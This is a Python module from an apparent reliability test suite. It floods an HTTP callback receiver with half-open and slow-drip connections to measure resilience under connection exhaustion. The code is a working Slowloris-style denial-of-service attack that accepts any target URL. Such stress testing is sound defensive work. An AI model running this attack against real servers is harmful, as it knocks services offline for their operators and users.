"""``python -m reliability._attacker URL SECRET HALF_OPEN SLOW SECONDS``: the connection
attack of the exhaustion figure, in a process of its own as a real attacker's would be (so
that its load does not slow the genuine sender the figure measures). ``HALF_OPEN``
connections whose headers never finish and ``SLOW`` with a genuine token whose body
trickles a byte every 2 s, each reconnecting at once when the receiver closes it. Prints
``ready`` once the attack is under way, and as it ends one JSON line: how many
connections of each kind it opened."""

from __future__ import annotations

import asyncio
import json
import sys
import time

import yarl

from addvocals_async import CallbackReceiver

_RECONNECT_PAUSE = 0.05


async def attack(url: str, secret: str, half_open: int, slow: int, seconds: float) -> None:
    base = yarl.URL(url)
    host, port = base.host or "127.0.0.1", base.port or 80
    minter = CallbackReceiver(secret=secret, public_url=url)  # genuine tokens, no server
    stop = time.monotonic() + seconds
    opened = {"half-open": 0, "slow": 0}

    async def hold(kind: str, head: bytes, drip: bytes, every: float) -> None:
        while time.monotonic() < stop:
            try:
                reader, writer = await asyncio.open_connection(host, port)
            except OSError:
                await asyncio.sleep(0.2)
                continue
            opened[kind] += 1
            try:
                writer.write(head)
                while time.monotonic() < stop and not reader.at_eof():
                    if drip:
                        writer.write(drip)
                        await writer.drain()
                    try:
                        await asyncio.wait_for(reader.read(1024), every)
                    except asyncio.TimeoutError:
                        continue
            except (ConnectionError, OSError):
                pass
            finally:
                writer.close()
            await asyncio.sleep(_RECONNECT_PAUSE)

    half_head = f"POST {base.path}/cb/abc HTTP/1.1\r\nHost: x\r\nX-Slow: ".encode()
    attackers = [
        asyncio.create_task(hold("half-open", half_head, b"", 5.0)) for _ in range(half_open)
    ]
    for _ in range(slow):
        path = yarl.URL(minter.new_callback_url().url).path
        head = (
            f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            "Content-Length: 100000\r\n\r\n"
        ).encode()
        attackers.append(asyncio.create_task(hold("slow", head, b" ", 2.0)))
    print("ready", flush=True)
    await asyncio.gather(*attackers, return_exceptions=True)
    print(json.dumps(opened), flush=True)


if __name__ == "__main__":
    url, secret, half_open, slow, seconds = sys.argv[1:6]
    asyncio.run(attack(url, secret, int(half_open), int(slow), float(seconds)))
